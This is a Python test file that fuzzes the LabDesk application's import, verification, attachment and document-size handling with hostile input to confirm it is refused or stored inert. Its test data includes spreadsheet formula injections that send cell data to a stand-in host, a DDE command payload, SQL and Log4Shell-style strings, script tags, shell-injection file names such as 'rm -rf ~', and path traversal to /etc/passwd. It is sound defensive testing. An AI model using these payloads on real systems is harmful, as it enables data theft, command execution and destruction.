"""Hostile input, fuzzed with hypothesis, through the facade:

* packing lists (CSV and XLSX) with formula injection and markup: refused as a whole or
  stored as inert text that round-trips, into a report PDF too; ``csv_safe`` neutralises
  what a spreadsheet would run (LabDesk has no CSV export yet: any must use it);
* verify: any text, URL, mangled token or object: ``Lab.verify`` never raises, and only
  a token the lab issued is valid;
* attachment names: path tricks, control and format characters, look-alikes, very long
  names, bytes that are not UTF-8: a clean name is stored, nothing is written outside the
  document store;
* documents that are truncated, not what their extension says, or huge (a 2 GB sparse
  file is refused before it is read, in a subprocess whose peak memory is measured; a
  large one under the limit is streamed in constant memory).
"""
from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from labdesk import ValidationError
from labdesk.core.packing_list import csv_safe
from labdesk.reports import claims
from support import reliability
from support.files import make_pdf
from support.homes import copy_home

PW = reliability.PASSWORDS
EXAMPLES = int(os.environ.get("LABDESK_FUZZ_EXAMPLES", "60"))
FUZZ = settings(max_examples=EXAMPLES, deadline=None, derandomize=False,
                suppress_health_check=[HealthCheck.too_slow,
                                       HealthCheck.function_scoped_fixture])


def _files_under(home: Path) -> set[str]:
    return {p.relative_to(home).as_posix() for p in home.rglob("*")
            if p.is_file() and "-wal" not in p.name and "-shm" not in p.name}


# ---------------------------------------------------------------------- packing lists
INJECTIONS = st.sampled_from([
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=1+2", "+cmd|'/C calc'!A0",
    "-2+3", "@SUM(A1:A9)", "=IMPORTXML(CONCAT(\"http://e/\",A2),\"//a\")",
    "\t=1+1", " =1+1", "＝HYPERLINK(\"http://x\")", "<a href='http://x'>x</a>",
    "<script>alert(1)</script>", "'; DROP TABLE stones; --", "%s%s%n", "${jndi:x}",
    "\u202eexe.fdp", "D0000001", "LD1.AAAA.BBBB"])
TEXT = st.one_of(INJECTIONS, st.text(max_size=40))


def _csv_cell(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


@FUZZ
@given(rows=st.lists(st.tuples(TEXT, TEXT), min_size=1, max_size=4))
def test_packing_list_text_is_refused_whole_or_stored_as_inert_text(lab, tmp_path, rows):
    lab.login("tech", PW["tech"])
    path = tmp_path / "list.csv"
    lines = ["Stock #,Weight,Comment"] + [
        f"{_csv_cell(ref)},0.500,{_csv_cell(note)}" for ref, note in rows]
    path.write_text("\r\n".join(lines) + "\r\n", encoding="utf-8")
    before, files = reliability.snapshot(lab), _files_under(lab.home)
    try:
        sub = lab.import_packing_list(path, "Hostile Dealer")
    except ValidationError as exc:
        assert exc.problems and all(p["message"] for p in exc.problems)
        assert reliability.snapshot(lab) == before and _files_under(lab.home) == files
        return
    for (ref, note), stone in zip(rows, sub.stones):
        stored = lab.stone(stone.number)
        assert stored.client_ref == (" ".join(ref.split()) or None)
        assert stored.notes == (" ".join(note.split()) or None)
        for value in (stored.client_ref, stored.notes):
            if value:  # what an export would write: never a live formula
                assert not csv_safe(value).lstrip(" ").startswith(
                    ("=", "+", "-", "@", "\t", "\r", "＝"))
    source = lab.submission(sub.number)
    assert lab.check().ok and source.stones


def test_an_xlsx_formula_cell_is_stored_as_its_text_never_evaluated(lab, tmp_path):
    import openpyxl
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["Stock #", "Weight", "Comment"])
    sheet.append(["=HYPERLINK(\"http://evil.example\",\"A1\")", 0.5, "=1+2"])
    sheet.append(["B2", 0.25, "@SUM(A1:A2)"])
    path = tmp_path / "list.xlsx"
    book.save(path)
    lab.login("tech", PW["tech"])
    sub = lab.import_packing_list(path, "Formula Dealer")
    sheet.append(["B3", "=0.25*2", ""])  # a weight LabDesk would have to compute
    book.save(tmp_path / "computed.xlsx")
    with pytest.raises(ValidationError, match="not a weight"):
        lab.import_packing_list(tmp_path / "computed.xlsx", "Formula Dealer")
    first, second = (lab.stone(s.number) for s in sub.stones)
    assert first.client_ref == '=HYPERLINK("http://evil.example","A1")'
    assert first.notes == "=1+2"  # not 3
    assert second.notes == "@SUM(A1:A2)"
    assert csv_safe(first.client_ref) == "'" + first.client_ref
    assert lab.check().ok


def test_the_imported_file_kept_is_the_one_that_was_read(lab, tmp_path, monkeypatch):
    """The packing list changes on disk right after it was read: the document kept as the
    intake's record is still the bytes the stones came from."""
    from labdesk.core import packing_list
    path = reliability.make_packing_list(tmp_path / "list.csv", 3)
    original = path.read_bytes()
    real = packing_list.read_packing_list_bytes

    def read_then_the_file_changes(data, filename):
        result = real(data, filename)
        path.write_bytes(original.replace(b"PL-00000", b"XX-99999"))
        return result

    monkeypatch.setattr(packing_list, "read_packing_list_bytes", read_then_the_file_changes)
    lab.login("tech", PW["tech"])
    sub = lab.import_packing_list(path, "Changing Dealer")
    row = lab._db.execute("SELECT source_file FROM submissions WHERE number = ?",
                          [sub.number]).fetchone()
    assert lab.documents.read(row[0]) == original
    assert sub.stones[0].client_ref == "PL-00000"


def test_injected_text_reaches_a_report_pdf_as_text_and_never_as_a_link(lab):
    """The client's reference is printed on the report: a formula or markup in it is
    printed as the characters it is (reportlab's paragraph markup is escaped)."""
    import shutil
    lab.login("tech", PW["tech"])
    ref = '=HYPERLINK("http://e.example","y")<a href="http://e.example">z</a>'
    lab.update_stone(reliability.FOR_EVIDENCE, client_ref=ref[:60])
    lab.propose_finding(reliability.FOR_EVIDENCE, "undetermined")
    lab.login("sup1", PW["sup1"])
    lab.approve(reliability.FOR_EVIDENCE, comment="ok")
    report = lab.issue_report(reliability.FOR_EVIDENCE)
    data = report.pdf_path.read_bytes()
    assert b"/URI" not in data and b"/Annot" not in data  # no link, no annotation
    if shutil.which("pdftotext"):
        text = subprocess.run(["pdftotext", "-raw", str(report.pdf_path), "-"],
                              capture_output=True, text=True, check=True).stdout
        assert "".join(ref[:60].split()) in "".join(text.split())  # as typed, wrapped


@FUZZ
@given(st.text(max_size=60))
def test_csv_safe_neutralises_every_formula_and_keeps_everything_else(text):
    safe = csv_safe(text)
    starts = text.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋",
                                          "－", "＠"))
    assert safe == ("'" + text if starts else text)


# ---------------------------------------------------------------------- verify
def _genuine(lab) -> list[str]:
    lab.login("tech", PW["tech"])   # the lab's records are read by a logged-in user
    return [r.token for r in lab.reports(limit=100).items]


def _mangle(token: str, how: int, at: int, junk: str) -> str:
    at = at % max(1, len(token))
    return [token[:at],                                   # truncated
            token[:at] + junk + token[at:],               # inserted
            token[:at] + junk + token[at + len(junk):],   # overwritten
            token.replace(".", junk or "", 1),            # a dot lost
            "https://lab.example/verify#" + token + junk,  # as a URL with a tail
            junk + "#" + token[:at],                      # a URL cut short
            token.swapcase(),
            " \n\t".join(token),                          # whitespace everywhere
            ][how % 8]


OBJECTS = st.one_of(st.none(), st.integers(), st.floats(), st.binary(max_size=50),
                    st.lists(st.text(max_size=5), max_size=3),
                    st.dictionaries(st.text(max_size=3), st.text(max_size=3), max_size=2))


@FUZZ
@given(data=st.data())
def test_verify_never_raises_and_only_an_issued_token_is_valid(lab, data):
    genuine = _genuine(lab)
    choice = data.draw(st.integers(0, 4))
    if choice == 0:
        text = data.draw(st.text(max_size=300))
    elif choice == 1:
        text = data.draw(st.binary(max_size=300)).decode("latin-1")
    elif choice == 2:
        text = _mangle(genuine[0], data.draw(st.integers(0, 7)),
                       data.draw(st.integers(0, 400)), data.draw(st.text(max_size=4)))
    elif choice == 3:
        text = data.draw(OBJECTS)
    else:  # a well-formed claim, re-signed with a key that is not the lab's
        from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
        claim = json.loads(claims.unb64url(genuine[0].split(".")[1]))
        claim[data.draw(st.sampled_from(["n", "w", "o", "col", "lab"]))] = \
            data.draw(st.text(max_size=10))
        text = claims.sign(Ed25519PrivateKey.generate(), claim)
    result = lab.verify(text)
    assert result.status in ("valid", "revoked", "superseded", "forged", "malformed",
                             "unknown_key")
    assert isinstance(result.problems, tuple)
    if result.valid:
        assert claims.extract_token(text) in genuine


@pytest.mark.parametrize("text", [
    "", " ", "#", "LD1.", "LD1..", "LD1.a.b.c", "LDR1.x.y", "https://x/#", "x" * 100_000,
    "LD1." + "A" * 4096 + ".B", "\x00" * 10, "\ud800LD1.", "LD1.\U0001f48e.\U0001f48e",
    "LD1." + claims.b64url(b"null") + "." + claims.b64url(b"x" * 64),
    "LD1." + claims.b64url(b'{"v":1}') + "." + claims.b64url(b"x" * 64),
    "LD1." + claims.b64url(b'{"v":true,"kid":"0000000000000000","lab":"","n":"","d":"",'
                           b'"w":"","sh":"","col":"","cla":"","id":"","o":""}') + "."
    + claims.b64url(b"x" * 64),
    "LD1." + claims.b64url(b'{"v":1e999}') + "." + claims.b64url(b"x" * 64),
    "LD1." + claims.b64url(b'\xff\xfe') + "." + claims.b64url(b"x" * 64),
])
def test_verify_answers_odd_texts_without_raising(lab, text):
    lab.login("tech", PW["tech"])
    result = lab.verify(text)
    assert not result.valid and result.problems


def test_verify_answers_a_deeply_nested_claim_without_raising(lab):
    text = "LD1." + claims.b64url(b"[" * 3000) + "." + claims.b64url(b"x" * 64)
    assert len(text) < claims.MAX_TOKEN
    lab.login("tech", PW["tech"])
    assert lab.verify(text).status == "malformed"


# ---------------------------------------------------------------------- attachment names
HOSTILE_NAMES = ["passwd", "..pdf", "...pdf", ".hidden.pdf", " .pdf", "scan.pdf.exe",
                 "scan.PDF", "a\nb.pdf", "\x01\x02\x7f.pdf", "\u202eexe.fdp", "evil\u202efdp.exe",
                 "ｓｃａｎ.pdf", "scan.ｐｄｆ", "scan\u200b.pdf", "scan.pdf\u200b", "CON.pdf",
                 "x" * 240 + ".pdf", "é" * 120 + ".pdf", "..\u2215..\u2215etc\u2215passwd",
                 "a\\..\\..\\b.pdf", "%2e%2e%2fetc.pdf", "$(reboot).pdf", "; rm -rf ~.pdf",
                 "\ufeffscan.pdf", "scan\u0301.pdf", "İstanbul.pdf"]

NAME_CHARACTERS = st.characters(blacklist_characters="/\x00",
                                blacklist_categories=("Cs",))


def _check_stored_name(filename: str) -> None:
    assert filename and len(filename) <= 120
    assert "/" not in filename and "\\" not in filename
    assert not filename.startswith(".")
    assert unicodedata.normalize("NFC", filename) == filename
    assert not any(unicodedata.category(c)[0] == "C" for c in filename)


@pytest.mark.parametrize("name", HOSTILE_NAMES + [b"\xff\xfe.pdf", b"scan\xe9.pdf"])
def test_hostile_attachment_names_are_stored_clean_or_refused(lab, template, tmp_path,
                                                              name):
    lab.login("tech", PW["tech"])
    ev = lab.add_evidence(reliability.FOR_EVIDENCE, "other", reference="NAMES")
    pdf = (template / "files" / "small.pdf").read_bytes()
    files = _files_under(lab.home)
    folder = tmp_path / "in"
    folder.mkdir()
    raw = os.fsencode(name) if isinstance(name, str) else name
    path = os.path.join(os.fsencode(folder), raw)
    with open(path, "wb") as out:
        out.write(pdf)
    try:
        attachment = lab.attach(ev.id, Path(os.fsdecode(path)))
    except ValidationError as exc:
        assert "named" in str(exc) or "not a PDF" in str(exc), str(exc)
        assert _files_under(lab.home) == files
        return
    _check_stored_name(attachment.filename)
    added = _files_under(lab.home) - files
    assert added <= {f"documents/{attachment.sha256[:2]}/{attachment.sha256}"}
    assert lab.check().ok


@FUZZ
@given(stem=st.text(NAME_CHARACTERS, min_size=1, max_size=60),
       ext=st.sampled_from([".pdf", ".PDF", ".Pdf", "", ".png", ".exe", ".pdf ", ".pdf.",
                            ".pdf\u200b", "." + "x" * 20]))
def test_fuzzed_attachment_names_are_stored_clean_or_refused(lab, template, tmp_path,
                                                             stem, ext):
    name = stem + ext
    assume(name not in (".", "..") and len(os.fsencode(name)) <= 255)
    if not hasattr(lab, "_fuzz_evidence"):
        lab.login("tech", PW["tech"])
        lab._fuzz_evidence = lab.add_evidence(reliability.FOR_EVIDENCE, "other",
                                              reference="FUZZ").id
    folder = tmp_path / "fuzz"
    folder.mkdir(exist_ok=True)
    path = folder / name
    path.write_bytes((template / "files" / "small.pdf").read_bytes())
    try:
        attachment = lab.attach(lab._fuzz_evidence, path)
    except ValidationError as exc:
        assert str(exc).startswith("file: ")
    else:
        _check_stored_name(attachment.filename)
        assert attachment.media_type == "application/pdf"
    finally:
        path.unlink()


# ---------------------------------------------------------------------- damaged documents
def _samples(folder: Path) -> dict[str, bytes]:
    from PIL import Image
    image = Image.new("RGB", (24, 24), (200, 30, 30))
    out = {"pdf": make_pdf(folder / "s.pdf").read_bytes()}
    for fmt, ext in (("PNG", "png"), ("JPEG", "jpg"), ("GIF", "gif"), ("WEBP", "webp")):
        buffer = io.BytesIO()
        image.save(buffer, format=fmt)
        out[ext] = buffer.getvalue()
    return out


@pytest.fixture
def scans_lab(lab, tmp_path):
    lab.login("tech", PW["tech"])
    ev = lab.add_evidence(reliability.FOR_EVIDENCE, "other", reference="DAMAGED")
    return lab, ev.id, _samples(tmp_path)


def _complete(ext: str, data: bytes, full: bytes) -> bool:
    """Whether a prefix of a document still holds the format's end marker."""
    if ext == "pdf":
        return b"%%EOF" in data[-1024:]
    if ext == "jpg":
        return data.rstrip(b"\x00\r\n ").endswith(b"\xff\xd9")
    if ext == "gif":
        return data.rstrip(b"\x00\r\n ").endswith(b";")
    return data == full  # PNG (IEND and its CRC last), WebP (RIFF says its length)


@FUZZ
@given(ext=st.sampled_from(["pdf", "png", "jpg", "gif", "webp"]), cut=st.floats(0, 1),
       named=st.sampled_from(["pdf", "png", "jpg", "gif", "webp", "bin", ""]))
def test_truncated_or_misnamed_documents_are_refused_with_one_message(scans_lab, tmp_path,
                                                                      ext, cut, named):
    lab, evidence_id, samples = scans_lab
    full = samples[ext]
    data = full[:max(1, int(len(full) * cut))]
    path = tmp_path / (f"doc.{named}" if named else "doc")
    path.write_bytes(data)
    aliases = {"jpg": {"jpg"}, "pdf": {"pdf"}, "png": {"png"}, "gif": {"gif"},
               "webp": {"webp"}}[ext]
    should_pass = _complete(ext, data, full) and len(data) >= 12 and (
        named in aliases or named == "")
    try:
        attachment = lab.attach(evidence_id, path)
    except ValidationError as exc:
        assert str(exc).startswith("file: ") and "\n" not in str(exc)
        assert not should_pass, (ext, len(data), len(full), named, str(exc))
    else:
        assert should_pass, (ext, len(data), len(full), named)
        assert attachment.size == len(data)


# ---------------------------------------------------------------------- huge files
ATTACH_AND_MEASURE = r"""
import json, resource, sys, time
sys.path.insert(0, sys.argv[4])
from support import reliability
from labdesk import Lab, LabError
from labdesk.core import passwords
lab = Lab.open(sys.argv[1])
with passwords.fast_hashing():
    lab.login("admin", reliability.PASSWORDS["admin"])
    lab.update_settings(max_attachment_mb=int(sys.argv[3]))
    lab.login("tech", reliability.PASSWORDS["tech"])
    ev = lab.add_evidence(reliability.FOR_EVIDENCE, "other", reference="HUGE")
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.monotonic()
    try:
        result = {"stored": lab.attach(ev.id, sys.argv[2]).size}
    except LabError as exc:
        result = {"refused": str(exc)}
    result["seconds"] = time.monotonic() - started
    result["peak_growth_mb"] = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
                                - before) / 1024
    result["check"] = lab.check().ok
print(json.dumps(result))
"""


def _sparse_pdf(path: Path, size: int) -> Path:
    with open(path, "wb") as out:
        out.write(b"%PDF-1.4\n")
        out.seek(size - 16)
        out.write(b"\ntrailer\n%%EOF\n\n"[:16])
    assert path.stat().st_size == size
    return path


def _attach_in_subprocess(template, tmp_path, source: Path, limit_mb: int) -> dict:
    home = copy_home(template / "home", tmp_path / "home-huge")
    out = subprocess.run([sys.executable, "-c", ATTACH_AND_MEASURE, str(home), str(source),
                          str(limit_mb), str(Path(__file__).resolve().parents[1])],
                         capture_output=True, text=True, timeout=300)
    assert out.returncode == 0, out.stderr
    return json.loads(out.stdout.strip().splitlines()[-1])


def test_a_2gb_sparse_file_is_refused_before_it_is_read(template, tmp_path):
    huge = _sparse_pdf(tmp_path / "huge.pdf", 2 * 1024 ** 3)
    result = _attach_in_subprocess(template, tmp_path, huge, 100)
    print(result)
    assert "over the lab's limit of 100 MB" in result["refused"]
    assert result["seconds"] < 2 and result["peak_growth_mb"] < 20, result
    assert result["check"]


@pytest.mark.slow
def test_a_large_file_under_the_limit_is_streamed_in_constant_memory(template, tmp_path):
    big = _sparse_pdf(tmp_path / "big.pdf", 300 * 1024 ** 2)
    result = _attach_in_subprocess(template, tmp_path, big, 400)
    print(result)
    assert result.get("stored") == 300 * 1024 ** 2, result
    assert result["peak_growth_mb"] < 40, result  # 300 MB went through a 1 MB buffer
    assert result["check"]


def test_a_file_that_grows_or_changes_after_it_was_checked_is_refused(lab, template,
                                                                     tmp_path):
    """Checked as a small PDF, then it grows past the limit (or turns into something
    else) before it is copied: refused, nothing stored, no temporary file left."""
    lab.login("admin", PW["admin"])
    lab.update_settings(max_attachment_mb=1)
    lab.login("tech", PW["tech"])
    ev = lab.add_evidence(reliability.FOR_EVIDENCE, "other", reference="GROWS")
    path = tmp_path / "grows.pdf"
    before, files = reliability.snapshot(lab), _files_under(lab.home)
    real = lab.documents.check_file
    for change in (lambda: path.write_bytes(b"%PDF-1.4\n" + b"0" * 2_000_000 + b"%%EOF\n"),
                   lambda: path.write_bytes(b"MZ\x90\x00 an executable, not a scan")):
        path.write_bytes((template / "files" / "small.pdf").read_bytes())
        calls = []

        def check_then_change(source, limit, name=None):
            result = real(source, limit, name)
            if not calls:
                calls.append(source)
                change()
            return result

        lab.documents.check_file = check_then_change
        with pytest.raises(ValidationError) as caught:
            lab.attach(ev.id, path)
        assert "grew over the lab's limit" in str(caught.value) or \
            "not a PDF" in str(caught.value)
        assert reliability.snapshot(lab) == before and _files_under(lab.home) == files
    lab.documents.check_file = real
    path.unlink()
    with pytest.raises(ValidationError, match="does not exist"):
        lab.attach(ev.id, path)


def test_path_tricks_attach_the_file_named_and_store_only_its_name(lab, template,
                                                                   tmp_path, monkeypatch):
    lab.login("tech", PW["tech"])
    ev = lab.add_evidence(reliability.FOR_EVIDENCE, "other", reference="PATHS")
    files = _files_under(lab.home)
    monkeypatch.chdir(tmp_path)
    with pytest.raises(ValidationError, match="passwd is not a PDF"):
        lab.attach(ev.id, "../../../../../../etc/passwd")  # a real file, not a scan
    with pytest.raises(ValidationError, match="does not exist"):
        lab.attach(ev.id, "scan.pdf\x00.png")
    (tmp_path / "in").mkdir()
    shutil_copy = (template / "files" / "small.pdf").read_bytes()
    (tmp_path / "in" / "scan.pdf").write_bytes(shutil_copy)
    attachment = lab.attach(ev.id, "in/../in/./scan.pdf")
    assert attachment.filename == "scan.pdf"
    assert _files_under(lab.home) - files <= {  # stored once, by content
        f"documents/{attachment.sha256[:2]}/{attachment.sha256}"}
    assert lab.document_path(attachment.sha256).read_bytes() == shutil_copy
